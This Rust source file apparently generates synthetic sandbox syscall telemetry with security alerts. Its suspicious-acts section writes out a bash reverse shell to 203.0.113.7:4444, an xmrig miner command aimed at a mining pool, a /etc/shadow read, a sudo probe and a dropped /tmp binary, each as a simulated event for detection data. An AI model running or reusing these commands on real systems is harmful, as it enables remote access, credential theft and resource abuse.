                    // The import system looks in the script's directory first.
                    let base = m.rsplit('/').next().unwrap_or(m);
                    self.open(
                        top,
                        t,
                        Cow::Owned(format!("/workspace/{base}.py")),
                        RDONLY_CLOEXEC,
                        None,
                        Some(ENOENT),
                    );
                }
                if self.rng.chance(0.6) {
                    let (dir, base) = m.rsplit_once('/').map_or(("", *m), |(d, b)| (d, b));
                    let dir = if dir.is_empty() {
                        String::new()
                    } else {
                        format!("{dir}/")
                    };
                    Cow::Owned(format!(
                        "/usr/lib/python3.11/{dir}__pycache__/{base}.cpython-311.pyc"
                    ))
                } else {
                    Cow::Owned(format!("/usr/lib/python3.11/{m}.py"))
                }
            }
            FileKind::PyPackage => {
                let pkg = self.rng.pick(&PYTHON_PACKAGES);
                let file = self.rng.pick(&PACKAGE_FILES);
                Cow::Owned(format!(
                    "/usr/local/lib/python3.11/dist-packages/{pkg}/{file}.py"
                ))
            }
            FileKind::NodeModule => {
                let pkg = self.rng.pick(&NODE_PACKAGES);
                let file = self.rng.pick(&NODE_FILES);
                if self.rng.chance(0.1) {
                    ret = Some(ENOENT);
                }
                Cow::Owned(format!("/workspace/node_modules/{pkg}/{file}"))
            }
            FileKind::GitObject => {
                if self.rng.chance(0.2) {
                    Cow::Borrowed(*self.rng.pick(&[
                        "/workspace/src/.git/HEAD",
                        "/workspace/src/.git/config",
                        "/workspace/src/.git/index",
                        "/workspace/src/.git/packed-refs",
                        "/workspace/src/.git/refs/heads/main",
                    ]))
                } else {
                    if self.rng.chance(0.25) {
                        ret = Some(ENOENT);
                    }
                    let a = self.rng.hex(2);
                    let b = self.rng.hex(38);
                    Cow::Owned(format!("/workspace/src/.git/objects/{a}/{b}"))
                }
            }
            FileKind::Header => {
                let h = self.rng.pick(&C_HEADERS);
                if self.rng.chance(0.3) {
                    ret = Some(ENOENT);
                    Cow::Owned(format!("/usr/local/include/{h}"))
                } else {
                    Cow::Owned(format!("/usr/include/{h}"))
                }
            }
            FileKind::Etc => {
                let p = *self.rng.pick(&ETC_READS);
                if (p == "/etc/passwd" || p == "/etc/group")
                    && self.rng.chance(0.5)
                    && self.free() > 2
                {
                    // glibc asks nscd first: no such socket in a sandbox.
                    self.unix_connect(top, t);
                }
                if p == "/etc/gitconfig" || p == "/etc/npmrc" {
                    ret = Some(ENOENT);
                }
                Cow::Borrowed(p)
            }
            FileKind::Proc => {
                let ns = self.procs[top].ns_pid;
                match self.rng.below(6) {
                    0 => Cow::Borrowed("/proc/self/status"),
                    1 => Cow::Borrowed("/proc/self/maps"),
                    2 => Cow::Owned(format!("/proc/{ns}/stat")),
                    3 => Cow::Borrowed("/proc/meminfo"),
                    4 => Cow::Borrowed("/sys/fs/cgroup/memory.max"),
                    _ => Cow::Borrowed("/proc/cpuinfo"),
                }
            }
            FileKind::Dev => match self.rng.below(4) {
                0 | 1 => Cow::Borrowed("/dev/null"),
                2 => Cow::Borrowed("/dev/urandom"),
                _ => {
                    ret = Some(ENXIO);
                    flags = (0o2000002, "O_RDWR|O_CLOEXEC");
                    Cow::Borrowed("/dev/tty")
                }
            },
        };
        if self.free() == 0 {
            return;
        }
        if matches!(kind, FileKind::Workspace) && self.rng.chance(0.05) {
            flags = RDONLY_DIR;
        }
        if matches!(kind, FileKind::Proc) {
            flags = RDONLY;
        }
        let t = self.burst().max(t);
        self.open(top, t, path, flags, None, ret);
    }

    fn file_write(&mut self, top: usize) {
        let t = self.tick(1.0);
        let path = self.workspace_path();
        self.disk += 4096 * (1 + self.rng.below(16));
        let (flags, mode) = if self.rng.chance(0.2) {
            (WRITE_APPEND, 0o644)
        } else {
            (WRITE_TRUNC, 0o666)
        };
        self.open(top, t, Cow::Owned(path), flags, Some(mode), None);
    }

    /// A write below /etc: read-only in most sandboxes.
    fn etc_write(&mut self, top: usize, works: bool) -> i64 {
        let t = self.tick(1.0);
        let path = if works {
            "/etc/hosts"
        } else {
            *self.rng.pick(&ETC_WRITES)
        };
        let ret = if works {
            None
        } else if path == "/etc/passwd" || self.rng.chance(0.2) {
            Some(EACCES)
        } else {
            Some(EROFS)
        };
        self.open(top, t, Cow::Borrowed(path), WRITE_APPEND, Some(0o644), ret);
        t
    }

    fn file_meta(&mut self, top: usize) {
        let t = self.tick(1.0);
        let path = self.workspace_path();
        let (event, path2, flags, mode, ret) = match self.rng.below(10) {
            0..=3 => ("unlinkat", None, Some(0), None, 0),
            4..=5 => {
                let to = format!("{path}.tmp");
                ("renameat2", Some(Cow::Owned(to)), Some(0), None, 0)
            }
            6..=7 => (
                "mkdirat",
                None,
                None,
                Some(0o777),
                -17 * i64::from(self.rng.chance(0.3)),
            ),
            8 => ("fchmodat", None, None, Some(0o755), 0),
            _ => (
                "unlinkat",
                None,
                Some(0o1000),
                None,
                -39 * i64::from(self.rng.chance(0.2)),
            ),
        };
        let ev = self.ev(top, t, event, Some(ret));
        // rename's row carries the new path as path2 (the old one in path).
        self.push_event(Row::File {
            ev,
            path: Cow::Owned(path),
            path2,
            flags,
            flags_text: None,
            mode,
        });
    }

    fn tmp_file(&mut self, top: usize) {
        let t = self.tick(1.0);
        let name = format!("/tmp/tmp{}", self.rng.alnum(8));
        self.open(
            top,
            t,
            Cow::Owned(name.clone()),
            RDWR_EXCL,
            Some(0o600),
            None,
        );
        if self.free() > 0 && self.rng.chance(0.6) {
            let t = self.tick(0.5);
            let ev = self.ev(top, t, "unlinkat", Some(0));
            self.push_event(Row::File {
                ev,
                path: Cow::Owned(name),
                path2: None,
                flags: Some(0),
                flags_text: None,
                mode: None,
            });
        }
    }

    fn install(&mut self, top: usize, python: bool) {
        let t = self.tick(0.5);
        let path = if python {
            let pkg = self.rng.pick(&PYTHON_PACKAGES);
            let file = self.rng.pick(&PACKAGE_FILES);
            format!("/workspace/.venv/lib/python3.11/site-packages/{pkg}/{file}.py")
        } else {
            let pkg = self.rng.pick(&NODE_PACKAGES);
            let file = self.rng.pick(&NODE_FILES);
            format!("/workspace/node_modules/{pkg}/{file}")
        };
        self.disk += 8192;
        self.open(top, t, Cow::Owned(path), WRITE_TRUNC, Some(0o644), None);
    }

    fn unix_connect(&mut self, top: usize, t: i64) {
        let fd = self.fd(top);
        let ev = self.ev(top, t, "connect", Some(ENOENT));
        self.push_event(Row::Network {
            ev,
            fd,
            family: "unix",
            sock_type: "stream",
            protocol: "unix",
            saddr: None,
            sport: None,
            daddr: Some(Rc::from("/var/run/nscd/socket")),
            dport: None,
            bytes: None,
        });
    }

    fn socket(&mut self, top: usize, family: &'static str, udp: bool) -> i64 {
        let t = self.burst();
        let fd = self.fd(top);
        let ev = self.ev(top, t, "socket", Some(fd));
        self.push_event(Row::Network {
            ev,
            fd,
            family,
            sock_type: if udp { "dgram" } else { "stream" },
            protocol: if udp { "udp" } else { "tcp" },
            saddr: None,
            sport: None,
            daddr: None,
            dport: None,
            bytes: None,
        });
        fd
    }

    /// A DNS lookup through the loopback stub, then a TCP connect to a destination.
    fn connect(&mut self, host: &mut HostState, top: usize) {
        let _ = self.tick(1.0);
        let network = self.spec.profile.network;
        if self.rng.chance(0.6) && self.free() >= 4 {
            let fd = self.socket(top, "inet", true);
            for _ in 0..1 + u64::from(self.rng.chance(0.5)) {
                let t = self.burst();
                let bytes = 28 + self.rng.below(40) as i64;
                let ev = self.ev(top, t, "sendto", Some(bytes));
                self.push_event(Row::Network {
                    ev,
                    fd,
                    family: "inet",
                    sock_type: "dgram",
                    protocol: "udp",
                    saddr: None,
                    sport: None,
                    daddr: Some(Rc::from(DNS_STUB.0)),
                    dport: Some(DNS_STUB.1),
                    bytes: Some(bytes),
                });
                self.tx += bytes as u64;
                self.rx += 2 * bytes as u64;
            }
        }
        if self.free() < 2 {
            return;
        }
        let (daddr, dport) = if self.rng.chance(0.12) {
            // A service of the job's own, on loopback.
            (Rc::from("127.0.0.1"), 8000 + self.rng.below(50) as u16)
        } else {
            let (a, p) = &host.destinations[host.zipf.sample(&mut self.rng)];
            (a.clone(), *p)
        };
        let family = if daddr.contains(':') { "inet6" } else { "inet" };
        let fd = self.socket(top, family, false);
        let t = self.burst();
        let loopback = daddr.starts_with("127.");
        let ret = if !network && !loopback {
            ENETUNREACH
        } else {
            match self.rng.below(20) {
                0..=11 => EINPROGRESS,
                12..=18 => 0,
                _ => ECONNREFUSED,
            }
        };
        if ret == 0 || ret == EINPROGRESS {
            self.tx += 600 + self.rng.below(4000);
            self.rx += 2000 + self.rng.below(200_000);
        }
        let ev = self.ev(top, t, "connect", Some(ret));
        self.push_event(Row::Network {
            ev,
            fd,
            family,
            sock_type: "stream",
            protocol: "tcp",
            saddr: None,
            sport: None,
            daddr: Some(daddr),
            dport: Some(dport),
            bytes: None,
        });
    }

    fn thread(&mut self, host: &mut HostState, top: usize) {
        if self.free() < 2 || self.procs[top].threads.len() >= 6 {
            return self.file_read(top, FileKind::Proc);
        }
        let t = self.tick(0.5);
        let ns_tid = self.ns_pid();
        let tid = host.pid();
        let ev = Ev {
            tid: self.procs[top].pid,
            ..self.ev(top, t, "clone", Some(i64::from(ns_tid)))
        };
        self.push_event(Row::Process {
            ev,
            filename: None,
            argv: None,
            cwd: None,
            child_pid: Some(ns_tid),
            clone_flags: Some(THREAD_FLAGS),
            exit_code: None,
            exit_signal: None,
            id_args: None,
            target: None,
            facts: None,
        });
        self.procs[top].threads.push(tid);
    }

    fn sensitive(&mut self, top: usize) {
        let t = self.tick(1.0);
        let (event, ret, refused, args) = match self.rng.below(4) {
            0 => ("personality", 0, false, [0xffff_ffff, 0, 0, 0, 0, 0]),
            1 => ("unshare", EPERM, true, [0x1000_0000, 0, 0, 0, 0, 0]),
            2 => ("keyctl", EPERM, true, [0, 0xffff_fffd, 0, 0, 0, 0]),
            _ => ("userfaultfd", EPERM, true, [0x80800, 0, 0, 0, 0, 0]),
        };
        let ev = self.ev(top, t, event, Some(ret));
        self.push_event(Row::Syscall {
            ev,
            args: Some(args),
            refused,
        });
    }

    /// The program a process of this kind starts, and its argv.
    fn child_of(&mut self, top: usize) -> (&'static Program, Vec<String>, bool) {
        let parent = self.procs[top].program;
        let ws = |rng: &mut Rng| {
            format!(
                "{}/{}{}",
                rng.pick(&WORKSPACE_DIRS),
                rng.pick(&WORKSPACE_NAMES),
                rng.below(40)
            )
        };
        let program: &'static Program = match parent.kind {
            Kind::Shell => {
                if self.rng.chance(0.45) {
                    self.rng.pick(&COREUTILS)
                } else {
                    let runs: &'static [(&'static Program, u32)] = self.spec.profile.runs;
                    let program: &&'static Program = self.rng.weighted(runs);
                    program
                }
            }
            Kind::Python | Kind::Node | Kind::Npm => match self.rng.below(10) {
                0..=2 => &GIT,
                3..=4 => &SH,
                _ => self.rng.pick(&COREUTILS),
            },
            Kind::Pip => &GIT,
            Kind::Make => {
                if self.rng.chance(0.85) {
                    &CC
                } else {
                    &SH
                }
            }
            Kind::Compiler => {
                let p = &mut self.procs[top];
                p.passes += 1;
                match p.passes {
                    1 => &CC1,
                    2 => &AS,
                    _ => &LD,
                }
            }
            Kind::Git => &GIT,
            _ => self.rng.pick(&COREUTILS),
        };
        let by_name = matches!(parent.kind, Kind::Shell | Kind::Make);
        let argv: Vec<String> = match program.kind {
            Kind::Shell => vec![
                program.name.into(),
                "-c".into(),
                format!(
                    "python3 {} --input data/{}.csv",
                    ws(&mut self.rng),
                    ws(&mut self.rng)
                ),
            ],
            Kind::Python => vec!["python3".into(), format!("{}.py", ws(&mut self.rng))],
            Kind::Pip => vec![
                "/usr/bin/python3".into(),
                "/usr/local/bin/pip".into(),
                "install".into(),
                "-q".into(),
                (*self.rng.pick(&PYTHON_PACKAGES)).into(),
            ],
            Kind::Node => vec!["node".into(), format!("{}.js", ws(&mut self.rng))],
            Kind::Npm => match self.rng.below(3) {
                0 => vec!["npm".into(), "ci".into()],
                1 => vec!["npm".into(), "run".into(), "build".into()],
                _ => vec![
                    "npm".into(),
                    "install".into(),
                    (*self.rng.pick(&NODE_PACKAGES)).into(),
                ],
            },
            Kind::Git => {
                let sub = *self.rng.pick(&[
                    "status",
                    "add",
                    "commit",
                    "log",
                    "diff",
                    "rev-parse",
                    "checkout",
                    "fetch",
                ]);
                match sub {
                    "add" => vec!["git".into(), sub.into(), ws(&mut self.rng)],
                    "commit" => vec!["git".into(), sub.into(), "-qm".into(), "agent step".into()],
                    "log" => vec![
                        "git".into(),
                        sub.into(),
                        "--oneline".into(),
                        "-n".into(),
                        "20".into(),
                    ],
                    _ => vec!["git".into(), sub.into()],
                }
            }
            Kind::Compiler => {
                let f = ws(&mut self.rng);
                vec![
                    "cc".into(),
                    "-O2".into(),
                    "-c".into(),
                    format!("{f}.c"),
                    "-o".into(),
                    format!("{f}.o"),
                ]
            }
            Kind::CompilerPass => vec![
                program.path.into(),
                "-quiet".into(),
                "-o".into(),
                format!("/tmp/cc{}.s", self.rng.alnum(6)),
            ],
            Kind::Make => vec!["make".into(), "-j2".into()],
            Kind::Fetch => vec![
                program.name.into(),
                "-sSfL".into(),
                format!(
                    "https://example-artifacts.internal/{}.tar.gz",
                    ws(&mut self.rng)
                ),
                "-o".into(),
                format!("{}.tar.gz", ws(&mut self.rng)),
            ],
            Kind::Coreutil | Kind::Suspicious => match program.name {
                "ls" => vec![
                    "ls".into(),
                    "-la".into(),
                    (*self.rng.pick(&WORKSPACE_DIRS)).into(),
                ],
                "grep" => vec![
                    "grep".into(),
                    "-rn".into(),
                    (*self.rng.pick(&WORKSPACE_NAMES)).into(),
                    (*self.rng.pick(&WORKSPACE_DIRS)).into(),
                ],
                "find" => vec!["find".into(), ".".into(), "-name".into(), "*.py".into()],
                "uname" => vec!["uname".into(), "-a".into()],
                "date" => vec!["date".into(), "+%s".into()],
                name => vec![name.into(), format!("{}.txt", ws(&mut self.rng))],
            },
        };
        (program, argv, by_name)
    }

    fn spawn(&mut self, host: &mut HostState, top: usize) {
        // clone + exec + exit, and a possible PATH miss.
        if self.free() < 4 || self.procs.len() >= 12 {
            return self.file_read(top, FileKind::Workspace);
        }
        let p = &self.procs[top];
        if p.program.kind == Kind::Compiler && p.passes >= 2 + u8::from(p.links) {
            // The driver has run its passes: what is left is its temporary files.
            return self.tmp_file(top);
        }
        let (program, argv, by_name) = self.child_of(top);
        self.fork_exec(host, top, program, &argv, by_name, None);
    }

    fn fork_exec(
        &mut self,
        host: &mut HostState,
        top: usize,
        program: &'static Program,
        argv: &[String],
        by_name: bool,
        alert: Option<Box<AlertSpec>>,
    ) {
        let t = self.tick(1.0);
        let ns_pid = self.ns_pid();
        let parent_kind = self.procs[top].program.kind;
        let (event, flags) = match parent_kind {
            Kind::Python | Kind::Pip | Kind::Node | Kind::Npm => ("vfork", VFORK_FLAGS),
            _ => ("clone", FORK_FLAGS),
        };
        let ev = Ev {
            tid: self.procs[top].pid,
            ..self.ev(top, t, event, Some(i64::from(ns_pid)))
        };
        self.push_event(Row::Process {
            ev,
            filename: None,
            argv: None,
            cwd: None,
            child_pid: Some(ns_pid),
            clone_flags: Some(flags),
            exit_code: None,
            exit_signal: None,
            id_args: None,
            target: None,
            facts: None,
        });
        let p = &self.procs[top];
        let parent = Parent {
            pid: p.pid,
            comm: p.comm.clone(),
            exe: p.exe.clone(),
        };
        self.exec_child(host, parent, ns_pid, program, argv, by_name, alert);
    }

    // -----------------------------------------------------------------------------------------
    // Suspicious acts and their alerts

    fn alert(
        &mut self,
        rule: &'static str,
        priority: &'static str,
        tags: &'static [&'static str],
        kills: bool,
        output: String,
        fields: String,
    ) -> Option<Box<AlertSpec>> {
        Some(Box::new(AlertSpec {
            rule,
            priority,
            tags,
            actions: if kills {
                &["alert", "kill"]
            } else {
                &["alert"]
            },
            output,
            fields,
            latency_ns: 600 * US + self.rng.below(8000) as i64 * US,
        }))
    }

    fn act(&mut self, host: &mut HostState, act: Act) {
        let top = self.procs.len() - 1;
        let non_root = self.spec.profile.uid != 1_000_000_000;
        let act = match act {
            Act::Sudo | Act::SetuidRoot if !non_root => {
                if act.kills() {
                    Act::Miner
                } else {
                    Act::ShadowRead
                }
            }
            a => a,
        };
        let id = self.spec.id.clone();
        let parent = self.procs[top].comm.clone();
        match act {
            Act::TmpBinary => {
                let t = self.tick(1.0);
                self.open(
                    top,
                    t,
                    Cow::Borrowed(DROPPED.path),
                    WRITE_TRUNC,
                    Some(0o755),
                    None,
                );
                let alert = self.alert(
                    "Sandbox program run from /tmp",
                    "notice",
                    &["filesystem", "mitre_execution"],
                    false,
                    format!(
                        "Program run from /tmp (proc=upd exe={} parent={parent} cmdline=upd --daemon sandbox={id})",
                        DROPPED.exe
                    ),
                    format!(
                        r#"{{"proc.name":"upd","proc.exe":"{}","proc.pname":"{parent}","container.id":"{id}"}}"#,
                        DROPPED.exe
                    ),
                );
                self.fork_exec(
                    host,
                    top,
                    &DROPPED,
                    &["upd".into(), "--daemon".into()],
                    false,
                    alert,
                );
            }
            Act::ShadowRead | Act::Sudo => {
                let program = if act == Act::Sudo {
                    &SUDO
                } else {
                    &COREUTILS[1]
                };
                let argv: Vec<String> = if act == Act::Sudo {
                    vec!["sudo".into(), "-n".into(), "id".into()]
                } else {
                    vec!["cat".into(), "/etc/shadow".into()]
                };
                let alert = (act == Act::Sudo).then(|| {
                    self.alert(
                        "Sandbox privilege tool run by non-root",
                        "warning",
                        &["users", "mitre_privilege_escalation"],
                        false,
                        format!("Privilege tool run by non-root (proc=sudo cmdline=sudo -n id parent={parent} sandbox={id})"),
                        format!(r#"{{"proc.name":"sudo","proc.pname":"{parent}","container.id":"{id}"}}"#),
                    )
                });
                self.fork_exec(host, top, program, &argv, true, alert.flatten());
                let child = self.procs.len() - 1;
                self.procs[child].payload = Some(act);
            }
            Act::EtcWrite => {
                let t = self.etc_write(top, true);
                let alert = self.alert(
                    "Sandbox write below system directory",
                    "error",
                    &["filesystem", "mitre_persistence"],
                    false,
                    format!("File below a system directory opened for writing (file=/etc/hosts proc={parent} sandbox={id})"),
                    format!(r#"{{"fd.name":"/etc/hosts","proc.name":"{parent}","container.id":"{id}"}}"#),
                );
                self.attach_alert(t, alert);
            }
            Act::ReverseShell => {
                let alert = self.alert(
                    "Sandbox reverse shell one-liner",
                    "critical",
                    &["network", "process", "mitre_execution"],
                    false,
                    format!("Reverse shell one-liner (cmdline=bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 parent={parent} sandbox={id})"),
                    format!(r#"{{"proc.name":"bash","proc.pname":"{parent}","container.id":"{id}"}}"#),
                );
                self.fork_exec(
                    host,
                    top,
                    &BASH,
                    &[
                        "bash".into(),
                        "-c".into(),
                        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1".into(),
                    ],
                    true,
                    alert,
                );
                let child = self.procs.len() - 1;
                self.procs[child].payload = Some(act);
            }
            Act::Listener => {
                let fd = self.socket(top, "inet", false);
                let t = self.burst();
                for event in ["bind", "listen"] {
                    let ev = self.ev(
                        top,
                        t + i64::from(event == "listen") * 40 * US,
                        event,
                        Some(0),
                    );
                    self.push_event(Row::Network {
                        ev,
                        fd,
                        family: "inet",
                        sock_type: "stream",
                        protocol: "tcp",
                        saddr: Some("0.0.0.0"),
                        sport: Some(3000),
                        daddr: None,
                        dport: None,
                        bytes: None,
                    });
                }
                self.now = t + 40 * US;
                let alert = self.alert(
                    "Sandbox listening socket",
                    "notice",
                    &["network"],
                    false,
                    format!("Socket listening (addr=0.0.0.0:3000 proc={parent} sandbox={id})"),
                    format!(
                        r#"{{"fd.sport":"3000","proc.name":"{parent}","container.id":"{id}"}}"#
                    ),
                );
                self.attach_alert(self.now, alert);
            }
            Act::Miner => {
                let alert = self.alert(
                    "Sandbox crypto miner started",
                    "critical",
                    &["process", "mitre_impact"],
                    true,
                    format!(
                        "Crypto miner started (proc=xmrig exe={} parent={parent} sandbox={id})",
                        MINER.exe
                    ),
                    format!(
                        r#"{{"proc.name":"xmrig","proc.exe":"{}","container.id":"{id}"}}"#,
                        MINER.exe
                    ),
                );
                self.fork_exec(
                    host,
                    top,
                    &MINER,
                    &[
                        "xmrig".into(),
                        "-o".into(),
                        "pool.supportxmr.com:443".into(),
                        "--threads=2".into(),
                    ],
                    false,
                    alert,
                );
                self.dying = Some((9, "rule"));
            }
            Act::SetuidRoot => {
                let t = self.tick(1.0);
                let mut ev = self.ev(top, t, "setuid", Some(EPERM));
                ev.alert = self.alert(
                    "Sandbox non-root process asked for root",
                    "critical",
                    &["users", "mitre_privilege_escalation"],
                    true,
                    format!("Non-root process asked for uid 0 (syscall=setuid res=EPERM proc={parent} sandbox={id})"),
                    format!(r#"{{"evt.type":"setuid","proc.name":"{parent}","container.id":"{id}"}}"#),
                );
                self.push_event(Row::Process {
                    ev,
                    filename: None,
                    argv: None,
                    cwd: None,
                    child_pid: None,
                    clone_flags: None,
                    exit_code: None,
                    exit_signal: None,
                    id_args: Some([0]),
                    target: None,
                    facts: None,
                });
                self.dying = Some((9, "rule"));
            }
        }
    }

    /// Puts the alert on the last row written at `t`.
    fn attach_alert(&mut self, t: i64, alert: Option<Box<AlertSpec>>) {
        if let Some(
            Row::Process { ev, .. }
            | Row::File { ev, .. }
            | Row::Network { ev, .. }
            | Row::Syscall { ev, .. },
        ) = self
            .rows
            .iter_mut()
            .rev()
            .find(|r| r.is_event() && r.time() == t)
        {
            ev.alert = alert;
        }
    }

    /// What an act's child does first.
    fn payload(&mut self, top: usize, act: Act) {
        let id = self.spec.id.clone();
        match act {
            Act::ShadowRead | Act::Sudo => {
                let t = self.tick(0.2);
                let path = if act == Act::Sudo {
                    "/etc/sudoers"
                } else {
                    "/etc/shadow"
                };
                self.open(
                    top,
                    t,
                    Cow::Borrowed(path),
                    RDONLY_CLOEXEC,
                    None,
                    Some(EACCES),
                );
                if act == Act::ShadowRead {
                    let alert = self.alert(
                        "Sandbox read of password or sudoers file",
                        "warning",
                        &["filesystem", "mitre_credential_access"],
                        false,
                        format!("Password or sudoers file opened for reading (file=/etc/shadow res=EACCES proc=cat sandbox={id})"),
                        format!(r#"{{"fd.name":"/etc/shadow","proc.name":"cat","container.id":"{id}"}}"#),
                    );
                    self.attach_alert(t, alert);
                }
            }
            Act::ReverseShell => {
                if self.free() < 2 {
                    return;
                }
                let fd = self.socket(top, "inet", false);
                let t = self.burst();
                let ret = if self.spec.profile.network {
                    ECONNREFUSED
                } else {
                    ENETUNREACH
                };
                let ev = self.ev(top, t, "connect", Some(ret));
                self.push_event(Row::Network {
                    ev,
                    fd,
                    family: "inet",
                    sock_type: "stream",
                    protocol: "tcp",
                    saddr: None,
                    sport: None,
                    daddr: Some(Rc::from("203.0.113.7")),
                    dport: Some(4444),
                    bytes: None,
                });
            }
            _ => {}
        }
    }
}

struct Parent {
    pid: u32,
    comm: Rc<str>,
    exe: Rc<str>,
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum FileKind {
    Workspace,
    PyModule,
    PyPackage,
    NodeModule,
    GitObject,
    Header,
    Etc,
    Proc,
    Dev,
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Step {
    Read(FileKind),
    Write,
    EtcWrite,
    Meta,
    Tmp,
    InstallPy,
    InstallNode,
    Connect,
    Spawn,
    Thread,
    Sensitive,
}
